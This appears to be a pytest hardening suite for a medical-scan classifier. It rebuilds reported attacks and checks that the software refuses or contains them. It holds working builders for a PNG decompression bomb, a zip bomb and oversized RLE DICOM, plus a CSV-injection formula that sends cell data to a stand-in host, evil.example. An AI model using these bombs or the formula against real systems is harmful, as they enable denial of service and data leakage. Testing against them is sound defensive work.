"""Hardening, second pass (issue 15): each attack of the report, rebuilt here, and its limit.

- a 387 KB PNG that decodes to 7999x7999 RGB at 16 bits: decoded within the byte budget (at
  reduced resolution), `medcls review` on it stays under 2.5 GB peak RSS, a session keeps
  <= 300 MB for it; with a smaller budget it is refused with a message naming the limit;
- DICOM decoded at reduced resolution keeps areas in mm^2 right (pixel spacing rescaled);
- concurrent decodes are capped per process;
- compressed DICOM is decoded in a limited worker: a decoder abort, a runaway allocation or a
  hang is a typed error and the caller lives on; uncompressed DICOM never goes there;
- every exported CSV cell is escaped (a DICOM Modality of ``=HYPERLINK(...)``);
- a zip of 3,000 members of exactly 1 MiB of zeros is refused before anything is expanded.

The files are built here (the PNG and the zip by hand, in a few hundred milliseconds).
"""

from __future__ import annotations

import csv
import io
import os
import re
import struct
import subprocess
import sys
import threading
import time
import zlib
from pathlib import Path

import numpy as np
import pytest
from conftest import PROJECT_ROOT, require
from dicom_factory import grayscale16, new_dataset, to_bytes

from medcls.core.csvsafe import escape_cell
from medcls.core.errors import DecodeBudgetError, DecoderFailedError, MedclsError, UnreadableScanError
from medcls.io import budget as budget_module
from medcls.io import dicom as dicom_module
from medcls.io import load as load_module
from medcls.io.budget import plan_decode, working_bytes
from medcls.io.load import load_scan

SIDE = 7999
GB = 1 << 30


# ----------------------------------------------------------------------------- the PNG bomb

def _zlib_repeated(first: bytes, row: bytes, n: int, per_block: int = 256) -> bytes:
    """A zlib stream of ``first + row * n``, from one deflated block of ``per_block`` rows
    repeated (blocks flushed with Z_FULL_FLUSH are independent, so they concatenate)."""
    def deflate(raw: bytes, mode: int) -> bytes:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(raw) + c.flush(mode)

    block = row * per_block
    body = (deflate(first, zlib.Z_FULL_FLUSH) + deflate(block, zlib.Z_FULL_FLUSH) * (n // per_block)
            + deflate(row * (n % per_block), zlib.Z_FINISH))
    check = zlib.adler32(first)
    for _ in range(n // per_block):
        check = zlib.adler32(block, check)
    check = zlib.adler32(row * (n % per_block), check)
    return b"\x78\xda" + body + struct.pack(">I", check)


def bomb_png(side: int = SIDE) -> bytes:
    """A PNG of side x side RGB at 16 bits (384 MB decoded for 7999) in about 390 KB: one row of
    stripes, then every row "the same as above" (PNG's Up filter)."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    x = np.arange(side)
    row = np.zeros((side, 3), ">u2")
    row[:, 0] = (x // 64 % 2) * 60000
    row[:, 1] = (x // 256 % 2) * 30000 + 1000
    row[:, 2] = 20000
    first = b"\x00" + row.tobytes()
    up = b"\x02" + bytes(len(first) - 1)
    ihdr = struct.pack(">IIBBBBB", side, side, 16, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
            + chunk(b"IDAT", _zlib_repeated(first, up, side - 1)) + chunk(b"IEND", b""))


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("bomb") / "bomb.png"
    path.write_bytes(bomb_png())
    return path


def test_the_png_is_the_reported_case(bomb):
    import cv2

    assert bomb.stat().st_size < 600_000
    head = cv2.imdecode(np.fromfile(bomb, np.uint8), cv2.IMREAD_REDUCED_COLOR_8 | cv2.IMREAD_ANYDEPTH)
    assert head.dtype == np.uint16 and head.shape == (SIDE // 8, SIDE // 8, 3)
    # what a full decode and its float32 copies would need: several GB
    assert working_bytes(SIDE, SIDE, 3, 2) > 3 * GB


def test_big_png_is_decoded_within_the_budget(bomb):
    scan = load_scan(bomb)
    assert scan.full_shape == (SIDE, SIDE)
    assert scan.is_color and scan.pixels.dtype == np.uint16  # colour and depth kept
    assert max(scan.shape) <= SIDE // 2
    assert scan.nbytes <= 300 << 20  # what a session keeps for it
    assert "reduced" in scan.metadata["DecodedSize"]
    assert scan.metadata["Rows"] == SIDE  # the metadata describes the file
    plan = plan_decode(SIDE, SIDE, 3, 2, reduce="after", gray_ok=True)
    assert plan.factor > 1 and plan.need <= budget_module.decode_budget()


def test_over_the_budget_is_refused_naming_the_limit(bomb, monkeypatch):
    monkeypatch.setenv("MEDCLS_DECODE_BUDGET_MB", "32")
    with pytest.raises(DecodeBudgetError) as ei:
        load_scan(bomb)
    msg = str(ei.value)
    assert "decode budget" in msg and "MEDCLS_DECODE_BUDGET_MB" in msg and "0.031 GB" in msg
    assert isinstance(ei.value, MedclsError)


def test_decode_limits_are_settings():
    from medcls.core.errors import SettingsError
    from medcls.core.settings import load_settings

    assert load_settings(env={}, secrets={}).decode.budget_mb == 1024
    assert load_settings(env={}, secrets={"decode": {"budget_mb": 64}}).decode.budget_mb == 64
    assert load_settings(env={"MEDCLS_MAX_DECODES": "3"}, secrets={}).decode.max_concurrent == 3
    with pytest.raises(SettingsError, match="MEDCLS_DECODE_BUDGET_MB"):
        load_settings(env={"MEDCLS_DECODE_BUDGET_MB": "0"}, secrets={})


def test_normal_images_are_decoded_at_full_resolution(data_dir):
    jpeg = sorted(require(data_dir / "brain-mri" / "glioma").glob("*.jpg"))[0]
    scan = load_scan(jpeg)
    assert scan.full_shape is None and "DecodedSize" not in scan.metadata


def _child_peak_rss_mb(args: list[str], **kwargs) -> tuple[subprocess.CompletedProcess, float]:
    """Run ``args`` under a fresh Python that waits for it, and read the child's peak RSS."""
    wrapper = ("import resource, subprocess, sys\n"
               "p = subprocess.run(sys.argv[1:])\n"
               "print('PEAK_KB', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
               "sys.exit(p.returncode)\n")
    proc = subprocess.run([sys.executable, "-c", wrapper, *args], capture_output=True,
                          text=True, **kwargs)
    peak = [int(line.split()[1]) for line in proc.stdout.splitlines() if line.startswith("PEAK_KB")]
    return proc, peak[0] / 1024 if peak else float("nan")


def test_review_cli_on_the_png_stays_under_2_5_gb(bomb, brain_model_dir, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "bomb.png").write_bytes(bomb.read_bytes())
    out = tmp_path / "out.csv"
    proc, peak_mb = _child_peak_rss_mb(
        [sys.executable, "-m", "medcls", "review", str(folder), "--model", str(brain_model_dir),
         "--out", str(out)], cwd=PROJECT_ROOT, timeout=600,
        env={**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3"})
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert peak_mb <= 2.5 * 1024, peak_mb
    rows = list(csv.DictReader(out.open()))
    assert len(rows) == 1
    # answered, withheld with its reason, or refused with a reason
    assert rows[0]["predicted"] or rows[0]["withheld_reason"] or rows[0]["error"]


def _held_bytes(obj, seen=None) -> int:
    """Bytes of the arrays and byte strings reachable from ``obj`` (dicts, sequences, dataclass
    and plain objects), each counted once."""
    import dataclasses

    seen = set() if seen is None else seen
    if id(obj) in seen:
        return 0
    seen.add(id(obj))
    if isinstance(obj, np.ndarray):
        return obj.nbytes if obj.base is None or id(obj.base) not in seen else 0
    if isinstance(obj, (bytes, bytearray)):
        return len(obj)
    if isinstance(obj, dict):
        return sum(_held_bytes(v, seen) for v in obj.values())
    if isinstance(obj, (list, tuple, set)):
        return sum(_held_bytes(v, seen) for v in obj)
    if dataclasses.is_dataclass(obj):
        return sum(_held_bytes(getattr(obj, f.name), seen) for f in dataclasses.fields(obj))
    if hasattr(obj, "__dict__") and type(obj).__module__.startswith("medcls"):
        return _held_bytes(vars(obj), seen)
    return 0


def test_main_page_session_keeps_under_300_mb(bomb, app_env):
    """The main page on the PNG answers (prediction or a clear error), and what the session
    holds afterwards (upload, decoded scans, results) stays under 300 MB."""
    from apptest import assert_prediction, run_page

    at = run_page(scan_bytes=bomb.read_bytes())
    assert_prediction(at)
    held = _held_bytes({k: at.session_state[k] for k in ("scan_bytes", "_scan_cache", "_results")
                        if k in at.session_state})
    print(f"session holds {held / 2**20:.0f} MB")
    assert 0 < held <= 300 << 20, held / 2**20


# ----------------------------------------------------------------------------- DICOM reduced

def _disc_dicom(side: int = 1024, radius: int = 300, spacing: float = 0.25) -> bytes:
    yy, xx = np.mgrid[:side, :side]
    img = np.where((yy - side / 2) ** 2 + (xx - side / 2) ** 2 <= radius ** 2, 3000, 100)
    ds = grayscale16(new_dataset(modality="MR"), side, side, bits_stored=12)
    ds.PixelSpacing = [spacing, spacing]
    ds.PixelData = img.astype(np.uint16).tobytes()
    return to_bytes(ds)


def test_reduced_dicom_keeps_pixel_spacing_and_areas(monkeypatch):
    """Decoded at 1/2 resolution, each pixel covers twice the millimetres: the region of the
    disc has the same area in mm^2 as at full resolution, and as drawn (pi r^2)."""
    from medcls.models.saliency import heatmap_region

    data = _disc_dicom()
    full = load_scan(data)
    monkeypatch.setenv("MEDCLS_DECODE_BUDGET_MB", "16")  # 34 MB at full size, 11 MB at 1/2
    reduced = load_scan(data)
    assert full.full_shape is None and reduced.full_shape == (1024, 1024)
    assert reduced.shape == (512, 512) and reduced.pixel_spacing == (0.5, 0.5)
    areas = []
    for scan in (full, reduced):
        heat = (scan.values - scan.values.min()) / np.ptp(scan.values)
        areas.append(heatmap_region(heat, 0.5, scan.pixel_spacing).area_mm2)
    truth = np.pi * (300 * 0.25) ** 2
    assert areas[0] == pytest.approx(truth, rel=0.01)
    assert areas[1] == pytest.approx(areas[0], rel=0.01)


def test_dicom_over_the_budget_at_every_resolution_is_refused(monkeypatch):
    monkeypatch.setenv("MEDCLS_DECODE_BUDGET_MB", "1")  # the full-size frame alone is 2 MB
    with pytest.raises(DecodeBudgetError, match="decode budget of"):
        load_scan(_disc_dicom())


# ----------------------------------------------------------------------------- concurrency

def test_concurrent_decodes_are_capped(data_dir, monkeypatch):
    jpeg = sorted(require(data_dir / "brain-mri" / "glioma").glob("*.jpg"))[0].read_bytes()
    monkeypatch.setenv("MEDCLS_MAX_DECODES", "1")
    monkeypatch.setattr(budget_module, "_slots", None)  # a fresh semaphore with the new cap
    active, peak, lock = [0], [0], threading.Lock()
    real = load_module.load_raster

    def counting(*args):
        with lock:
            active[0] += 1
            peak[0] = max(peak[0], active[0])
        try:
            time.sleep(0.05)
            return real(*args)
        finally:
            with lock:
                active[0] -= 1

    monkeypatch.setattr(load_module, "load_raster", counting)
    threads = [threading.Thread(target=load_scan, args=(jpeg,)) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert peak[0] == 1


# ----------------------------------------------------------------------------- decoder process

def test_compressed_dicom_decodes_in_the_worker_like_pydicom(data_dir):
    import pydicom

    for rel in ("wg04/MR4_RLE.dcm", "wg04/MR1_JPLL.dcm", "transfer-syntaxes/7.dcm"):
        path = require(data_dir / "dicom" / rel)
        scan = load_scan(path)
        expected = pydicom.dcmread(path).pixel_array
        assert np.array_equal(scan.pixels, expected), rel
    pool = dicom_module._decoder_pool()
    assert pool._idle and all(w.alive() for w in pool._idle)  # warm workers stay


def test_uncompressed_dicom_never_goes_to_the_worker(data_dir, monkeypatch):
    def refuse():
        raise AssertionError("uncompressed DICOM sent to the decoder process")

    monkeypatch.setattr(dicom_module, "_decoder_pool", refuse)
    scan = load_scan(require(data_dir / "dicom" / "mprage-series" / "100.dcm"))
    assert scan.shape == (224, 224)


def _gdcm_abort_dicom() -> bytes:
    """JPEG data declaring 32 bits allocated: GDCM aborts its process on it (C++ terminate)."""
    from dicom_factory import synthetic_dicom
    from pydicom.uid import JPEGBaseline8Bit

    return synthetic_dicom(JPEGBaseline8Bit, BitsAllocated=32, BitsStored=32, HighBit=31,
                            SamplesPerPixel=1, PhotometricInterpretation="MONOCHROME2",
                            pixel_data=np.random.default_rng(1).integers(0, 256, 64, np.uint8).tobytes())


def _rle_dicom(rows: int, cols: int, samples: int = 3) -> bytes:
    """RLE Lossless of zeros, declaring rows x cols x samples at 16 bits: a few MB on disk that
    decode to rows * cols * samples * 2 bytes."""
    from pydicom.uid import RLELossless

    n = rows * cols
    segment = b"\x81\x00" * (n // 128) + (bytes([257 - n % 128, 0]) if n % 128 > 1 else b"")
    segment += b"\x00" * (len(segment) % 2)
    k = samples * 2
    offsets, pos = [], 64
    for _ in range(k):
        offsets.append(pos)
        pos += len(segment)
    header = struct.pack("<16I", k, *offsets, *([0] * (15 - k)))
    frame = header + segment * k
    item = b"\xfe\xff\x00\xe0"
    pixel = (item + b"\x00" * 4 + item + struct.pack("<I", len(frame)) + frame
             + b"\xfe\xff\xdd\xe0\x00\x00\x00\x00")
    ds = grayscale16(new_dataset(RLELossless), rows, cols)
    ds.SamplesPerPixel, ds.PhotometricInterpretation, ds.PlanarConfiguration = samples, "RGB", 0
    ds.PixelData = pixel
    ds["PixelData"].VR = "OB"
    ds["PixelData"].is_undefined_length = True
    return to_bytes(ds)


def test_a_decoder_abort_is_a_typed_error_and_the_caller_lives():
    """Straight to the worker, past the attribute check that names this case: GDCM's abort ends
    the worker, not this process, and the next decode gets a fresh worker."""
    from medcls.io.decoder import DecoderPool

    pytest.importorskip("gdcm")
    pool = DecoderPool(1)
    try:
        with pytest.raises(DecoderFailedError, match="crashed"):
            pool.decode(_gdcm_abort_dicom(), 0, 1, 256 << 20, 60)
        good = _rle_dicom(64, 64, 1)
        assert pool.decode(good, 0, 1, 256 << 20, 60).shape == (64, 64)
    finally:
        pool.close()


def test_a_runaway_allocation_is_stopped_by_the_memory_limit(monkeypatch):
    """8000 x 8000 x 3 samples x 16 bits (384 MB) from 6 MB of RLE, with no budget left for the
    worker: its address-space limit stops the decode, whichever decoder allocates."""
    from medcls.io.decoder import DecoderPool

    data = _rle_dicom(8000, 8000)
    assert len(data) < 8 << 20
    pool = DecoderPool(1)
    try:
        with pytest.raises(DecoderFailedError, match="memory|crashed"):
            pool.decode(data, 0, 1, 0, 120)
    finally:
        pool.close()
    # through load_scan the plan refuses it first when even the full-size frame is over budget
    monkeypatch.setenv("MEDCLS_DECODE_BUDGET_MB", "256")
    with pytest.raises(DecodeBudgetError):
        load_scan(data)


def test_a_hang_is_stopped_by_the_time_limit(data_dir):
    from medcls.io.decoder import DecoderPool

    data = require(data_dir / "dicom" / "wg04" / "RG3_J2KI.dcm").read_bytes()
    pool = DecoderPool(1)
    try:
        with pytest.raises(DecoderFailedError, match="longer than"):
            pool.decode(data, 0, 1, 1 << 30, 0.01)
        assert not pool._idle  # the stopped worker is not reused
    finally:
        pool.close()


def test_load_scan_turns_worker_failures_into_unreadable_scan_errors(monkeypatch):
    monkeypatch.setenv("MEDCLS_DECODE_TIMEOUT_S", "0.001")
    monkeypatch.setattr(dicom_module, "_pool", None)
    try:
        with pytest.raises(UnreadableScanError, match="longer than"):
            load_scan(_rle_dicom(2048, 2048))
    finally:
        if dicom_module._pool is not None:
            dicom_module._pool.close()


# ----------------------------------------------------------------------------- exported cells

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=x", "'\t=x"), ("\r=x", "'\r=x"), ("  =x", "'  =x"), ("-0.25", "-0.25"), ("+3", "+3"),
    ("1e-3", "1e-3"), ("-nan", "'-nan"), ("glioma", "glioma"), ("", ""), (-0.5, -0.5),
    (None, None), (True, True)])
def test_escape_cell(value, expected):
    assert escape_cell(value) == expected


def _formula_start(cell: str) -> bool:
    if cell[:1] not in ("=", "+", "-", "@", "\t", "\r"):
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


def test_no_exported_cell_starts_a_formula(brain_predictor):
    """A DICOM whose Modality is a HYPERLINK formula, and formula file names: every cell of the
    review CSV is either a number or does not start with = + - @ (or tab, CR)."""
    from medcls.engine.review import run_review, write_csv
    from medcls.io.sources import Source

    ds = grayscale16(new_dataset(modality=FORMULA), 64, 64)
    ds.PixelData = (np.arange(64 * 64, dtype=np.uint16) % 4096).tobytes()
    dicom = to_bytes(ds)
    names = ["=evil.dcm", "+x.dcm", "-y.dcm", "@z.dcm", "\tt.dcm", "ok.dcm"]
    sources = [Source(n, lambda d=dicom: d) for n in names] + [Source("=bad.txt", lambda: b"x")]
    rows = list(run_review(brain_predictor, sources, batch_size=4))
    assert rows[0].modality == FORMULA and rows[-1].error
    buf = io.StringIO()
    write_csv(rows, brain_predictor.classes, buf)
    table = list(csv.reader(io.StringIO(buf.getvalue())))
    cells = [c for row in table for c in row]
    assert not [c for c in cells if _formula_start(c)]
    modality = table[0].index("modality")
    assert {r[modality] for r in table[1:-1]} == {"'" + FORMULA}


# ----------------------------------------------------------------------------- zip bounds

def _zip_of_zeros(path: Path, members: int, size: int) -> Path:
    """A zip of ``members`` entries of ``size`` zero bytes, deflated once and written by hand
    (zipfile would deflate 3 GiB)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = c.compress(bytes(size)) + c.flush()
    crc = zlib.crc32(bytes(size))
    central, offset = [], 0
    with path.open("wb") as fh:
        for i in range(members):
            name = f"m{i:05d}.dcm".encode()
            local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(packed),
                                size, len(name), 0)
            fh.write(local + name + packed)
            central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc,
                                       len(packed), size, len(name), 0, 0, 0, 0, 0, offset) + name)
            offset += len(local) + len(name) + len(packed)
        cd = b"".join(central)
        fh.write(cd + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, members, members, len(cd),
                                  offset, 0))
    return path


def test_zip_of_3000_members_of_1_mib_of_zeros_is_refused(tmp_path):
    import zipfile

    from medcls.core.errors import ArchiveRejectedError
    from medcls.io.sources import ZIP_MAX_MEMBERS, zip_sources

    path = _zip_of_zeros(tmp_path / "bomb.zip", 3000, 1 << 20)
    data = path.read_bytes()
    infos = zipfile.ZipFile(io.BytesIO(data)).infolist()
    assert len(infos) == 3000 < ZIP_MAX_MEMBERS and len(data) < 5 << 20
    assert sum(i.file_size for i in infos) == 3000 << 20
    with pytest.raises(ArchiveRejectedError, match="expands to 2.9 GB"):
        zip_sources(data)
    # the overall ratio catches it too (each member is exactly 1 MiB: under the per-member rule)
    with pytest.raises(ArchiveRejectedError, match="zip bomb"):
        zip_sources(data, max_total=8 << 30)
    # a small archive of the same members is fine: the ratio only matters above 1 MiB in all
    small = _zip_of_zeros(tmp_path / "small.zip", 3, 1000).read_bytes()
    assert [s.read() for s in zip_sources(small)] == [bytes(1000)] * 3


# ----------------------------------------------------------------------------- a real server

UPLOADS = 3


ANSWERED = re.compile(r"calibrated probability · |Answer withheld")  # the verdict line (after its icon)


async def _upload_and_wait(browser, url: str, path: Path, timeout_ms: int) -> str:
    """One browser session uploads ``path``; returns the page's answer: its verdict line,
    or the text of its error box."""
    ctx = await browser.new_context(viewport={"width": 1400, "height": 1800})
    try:
        page = await ctx.new_page()
        await page.goto(url, timeout=timeout_ms)
        drop = page.locator('[data-testid="stFileUploaderDropzoneInput"]').first
        await drop.wait_for(state="attached", timeout=timeout_ms)
        await drop.set_input_files(str(path))
        answer = page.get_by_text(ANSWERED).or_(
            page.locator('[data-testid="stAlertContentError"]'))
        await answer.first.wait_for(timeout=timeout_ms)
        body = await page.locator("body").inner_text()
        assert "Traceback" not in body, body[:2000]
        return (await answer.first.inner_text()).strip()
    finally:
        await ctx.close()


async def _health_latencies(url: str, stop) -> list[float]:
    """Seconds each /_stcore/health request took, polled every 0.5 s until ``stop`` is set."""
    import asyncio
    import urllib.request

    def ping() -> float:
        t = time.perf_counter()
        with urllib.request.urlopen(url + "/_stcore/health", timeout=60) as r:
            assert r.status == 200
        return time.perf_counter() - t

    out = []
    while not stop.is_set():
        out.append(await asyncio.to_thread(ping))
        await asyncio.sleep(0.5)
    return out


@pytest.mark.load
def test_three_uploads_at_once_leave_the_server_answering(bomb, data_dir, brain_model_dir):
    """Three sessions upload the PNG at the same moment on one real server; meanwhile the server
    answers its health check, each session gets an answer, and a fourth session then classifies
    a normal scan. The server's peak RSS goes to test-output/hardening-load.json."""
    import asyncio
    import json

    from appserver import CHROMIUM_ARGS, OUTPUT, AppServer, RssSampler, chromium_path
    from playwright.async_api import async_playwright

    jpeg = sorted(require(data_dir / "brain-mri" / "glioma").glob("*.jpg"))[0]

    async def run(url: str) -> dict:
        stop = asyncio.Event()
        async with async_playwright() as p:
            browser = await p.chromium.launch(executable_path=chromium_path(), args=CHROMIUM_ARGS,
                                              headless=True)
            try:
                await _upload_and_wait(browser, url, jpeg, 240_000)  # TensorFlow + model loaded
                warm_mb = sampler.rss_kb() / 1024
                health = asyncio.create_task(_health_latencies(url, stop))
                t = time.perf_counter()
                answers = await asyncio.gather(*(_upload_and_wait(browser, url, bomb, 300_000)
                                                 for _ in range(UPLOADS)))
                wall = time.perf_counter() - t
                stop.set()
                latencies = await health
                after = await _upload_and_wait(browser, url, jpeg, 120_000)
            finally:
                await browser.close()
        return {"answers": answers, "wall_s": wall, "health_s": latencies, "after": after,
                "warm_mb": warm_mb}

    server = AppServer({"MEDCLS_MODELS": str(brain_model_dir.parent)}).start()
    sampler = RssSampler(server.proc.pid)
    sampler.start()
    try:
        result = asyncio.run(run(server.url))
        alive = server.proc.poll() is None
    finally:
        sampler.stop()
        server.stop()
    record = {"uploads": UPLOADS, "wall_s": round(result["wall_s"], 1),
              "max_health_s": round(max(result["health_s"]), 2),
              "health_checks": len(result["health_s"]),
              "peak_rss_mb": round(sampler.peak_kb / 1024), "rss_after_one_scan_mb": round(result["warm_mb"]),
              "answers": result["answers"]}
    OUTPUT.mkdir(exist_ok=True)
    (OUTPUT / "hardening-load.json").write_text(json.dumps(record, indent=2))
    assert alive
    assert all(ANSWERED.search(a) or "could not be used" in a for a in result["answers"]), record
    assert ANSWERED.search(result["after"]), record
    assert result["health_s"] and max(result["health_s"]) < 10, record


@pytest.mark.parametrize("name", ["1.dcm", "2.dcm", "3.dcm"])
def test_a_transfer_syntax_uid_that_is_none_is_a_typed_answer(name, data_dir):
    """Fuzzing found a flipped byte in the file meta's Transfer Syntax UID ending the decode with
    pydicom's ValueError ("UID is not a transfer syntax"): such a file is decoded where its data
    allow, else refused with a typed error, never a trace."""
    import pydicom

    from medcls.io.load import load_scan

    raw = require(data_dir / "dicom" / "transfer-syntaxes" / name).read_bytes()
    uid = str(pydicom.dcmread(io.BytesIO(raw), stop_before_pixels=True).file_meta.TransferSyntaxUID)
    bad = uid.replace("10008", "10009", 1)  # same length: no transfer syntax of the standard
    data = raw.replace(uid.encode(), bad.encode(), 1)
    assert data != raw
    try:
        scan = load_scan(data)
    except MedclsError as exc:
        assert str(exc) and "UID is not" not in str(exc)
    else:
        assert scan.pixels.size > 0
